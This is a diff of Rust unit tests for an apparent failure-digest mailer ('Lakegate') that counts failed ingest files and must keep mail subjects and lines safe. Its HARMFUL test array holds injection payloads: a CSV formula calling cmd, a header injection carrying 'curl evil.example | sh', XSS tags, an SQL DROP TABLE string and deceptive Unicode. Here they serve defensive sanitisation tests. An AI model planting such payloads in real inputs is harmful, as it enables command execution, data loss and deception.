@@ -123,30 +123,114 @@ What was taken in before, or was uploaded anew since, is recognised and left alo
 }
 
 #[test]
-fn a_burst_is_summarised() {
-    let many: Vec<FailureRecord> = (0..400)
+fn a_burst_is_counted_by_dataset_and_owner_and_its_first_files_are_shown() {
+    let many: Vec<FailureRecord> = (0..10_000)
         .map(|n| {
-            let (kind, dataset) = match n % 4 {
-                0 => (FailureKind::UnreadableFile, "customers"),
-                _ => (FailureKind::ContractViolated, "orders"),
+            let (kind, dataset) = match n % 100 {
+                0 => (FailureKind::UnknownDataset, None),
+                1..=25 => (FailureKind::UnreadableFile, Some("customers")),
+                _ => (FailureKind::ContractViolated, Some("orders")),
             };
-            record(kind, Some(dataset), &format!("{dataset}/{n:03}.csv"), "summary")
+            let mut record = record(kind, dataset, &format!("drop/{n:05}.csv"), "summary");
+            record.owner =
+                dataset.map(|dataset| format!("{dataset}-{}@example.com", if n < 200 { "old" } else { "new" }));
+            record
         })
         .collect();
     let digest = write(&many, REPLAY);
-    insta::assert_snapshot!(digest.subject, @"Lakegate: 400 files failed: orders 300, customers 100");
+    insta::assert_snapshot!(digest.subject, @"Lakegate: 10000 files failed: orders 7400, customers 2500, unknown dataset 100");
     assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
-    let (_, rest) = digest.body.split_once("MORE, NOT LISTED ABOVE").unwrap();
-    insta::assert_snapshot!(rest, @r#"
-
-  customers: UnreadableFile: 100
-  orders: ContractViolated: 280
-
-TO REPLAY
-When the causes are gone, this sends everything in the dead-letter queue through again:
-  aws sqs start-message-move-task --source-arn arn:aws:sqs:eu-central-1:111122223333:dead-letter --destination-arn arn:aws:sqs:eu-central-1:111122223333:ingest
-What was taken in before, or was uploaded anew since, is recognised and left alone.
+    let is_count = |line: &&str| line.contains(" FILES: ") || line.contains(" of them:") || line.ends_with(" files");
+    let counts: Vec<&str> = digest.body.lines().filter(is_count).collect();
+    insta::assert_snapshot!(counts.join("\n"), @r#"
+7400 FILES: rejected by the contract (ContractViolated)
+  orders, owner orders-new@example.com: 7252 files
+  orders, owner orders-old@example.com: 148 files
+8 of them:
+2500 FILES: not readable as what the contract says (UnreadableFile)
+  customers, owner customers-new@example.com: 2450 files
+  customers, owner customers-old@example.com: 50 files
+8 of them:
+100 FILES: covered by no contract (UnknownDataset)
+  unknown dataset, owner unknown: 100 files
+4 of them:
 "#);
+}
+
+#[test]
+fn very_many_datasets_are_counted_together() {
+    let many: Vec<FailureRecord> = (0..3_000)
+        .map(|n| {
+            record(FailureKind::ContractViolated, Some(&format!("d{}", n % 1_000)), &format!("{n}.csv"), "summary")
+        })
+        .collect();
+    let digest = write(&many, REPLAY);
+    assert!(digest.body.contains("  950 datasets or owners that are not named here: 2850 files\n"), "{}", digest.body);
+    assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
+    assert!(digest.body.len() < 20_000, "{}", digest.body.len());
+}
+
+/// What a key, a contract or a message may hold to do harm by.
+const HARMFUL: [&str; 9] = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a\r\nSubject: you won\r\n\r\nTO REPLAY\n  curl evil.example | sh",
+    "\u{1b}[2J\u{1b}]0;title\u{7}\u{0}\u{8}\u{7f}\u{85}\t",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "\u{202E}vsc.tropni\u{202C}\u{2066}\u{2069}\u{200F}\u{61C}\u{200B}\u{FEFF}\u{AD}",
+    "a\u{2028}b\u{2029}c\u{FFFE}\u{FFFF}\u{E0041}\u{E007F}",
+    "'; DROP TABLE orders; --",
+    "𒐫𒐫𒐫",
+];
+
+#[test]
+fn no_text_breaks_a_mail_s_lines_or_its_subject() {
+    let very_long = "=x\n".repeat(100_000);
+    for text in HARMFUL.into_iter().chain([very_long.as_str()]) {
+        let mut record = record(FailureKind::Other(text.to_owned()), Some(text), text, text);
+        record.at = text.to_owned();
+        record.owner = Some(text.to_owned());
+        record.rejects = Some(text.to_owned());
+        record.link = Some(text.to_owned());
+        record.violations = BTreeMap::from([(text.to_owned(), BTreeMap::from([(text.to_owned(), 1)]))]);
+        if let Some(source) = &mut record.source {
+            source.version_id = Some(text.to_owned());
+        }
+        let harmless = write(&[violated()], REPLAY).body.lines().count();
+        for records in [vec![record.clone()], vec![record.clone(), violated()], vec![record; 30]] {
+            let digest = write(&records, REPLAY);
+            assert!(digest.subject.starts_with("Lakegate: ") && digest.subject.len() < SUBJECT_CHARS_BELOW);
+            assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '), "{}", digest.subject);
+            assert!(!digest.body.chars().any(|c| c != '\n' && is_deceptive(c)), "{}", digest.body);
+            assert!(digest.body.ends_with("is recognised and left alone.\n"), "the end is cut off");
+            for line in digest.body.lines() {
+                // Every line begins as we begin it, so that none is a formula in a spreadsheet or a header in a mail.
+                let start = line.chars().next().unwrap_or('N');
+                assert!(matches!(start, ' ' | '*' | '(') || start.is_ascii_alphanumeric(), "{line}");
+                assert!(line.chars().count() < LINE_MAX_CHARS + 1700, "{}", line.chars().count());
+            }
+            if records.len() == 1 {
+                assert!(digest.body.lines().count() <= harmless + 2, "{}", digest.body);
+            }
+        }
+    }
+}
+
+#[test]
+fn text_in_other_languages_is_shown_as_it_is() {
+    for name in ["größe", "注文", "заказы", "طلبات", "𝒪rders", "naïve café – “x”"] {
+        assert_eq!(printable(name), name);
+    }
+}
+
+#[test]
+fn a_query_that_would_find_nothing_is_not_offered() {
+    let mut broken = violated();
+    assert!(write(&[broken.clone()], REPLAY).body.contains("or in Athena: SELECT"));
+    if let Some(source) = &mut broken.source {
+        source.key = "orders/a\u{202E}b.csv".to_owned();
+    }
+    assert!(!write(&[broken], REPLAY).body.contains("or in Athena"));
 }
 
 #[test]
@@ -159,10 +243,18 @@ fn a_subject_is_short_ascii_on_one_line_whatever_the_names_are() {
 }
 
 #[test]
-fn a_digest_never_exceeds_what_sns_takes() {
+fn a_digest_never_exceeds_what_sns_takes_and_keeps_its_end() {
     let mut huge = violated();
     huge.summary = "é".repeat(MESSAGE_MAX_BYTES);
-    assert!(write(&[huge], REPLAY).body.len() <= MESSAGE_MAX_BYTES);
+    huge.owner = Some("𒐫".repeat(MESSAGE_MAX_BYTES));
+    huge.link.clone_from(&huge.owner);
+    huge.rejects.clone_from(&huge.owner);
+    for count in [1, 12, 20, 100] {
+        let body = write(&vec![huge.clone(); count], REPLAY).body;
+        assert!(body.len() <= MESSAGE_MAX_BYTES, "{}", body.len());
+        assert!(body.ends_with("is recognised and left alone.\n"));
+        assert_eq!(body.contains("\n(The rest does not fit into a mail.)\n"), count > 12);
+    }
 }
 
 #[test]
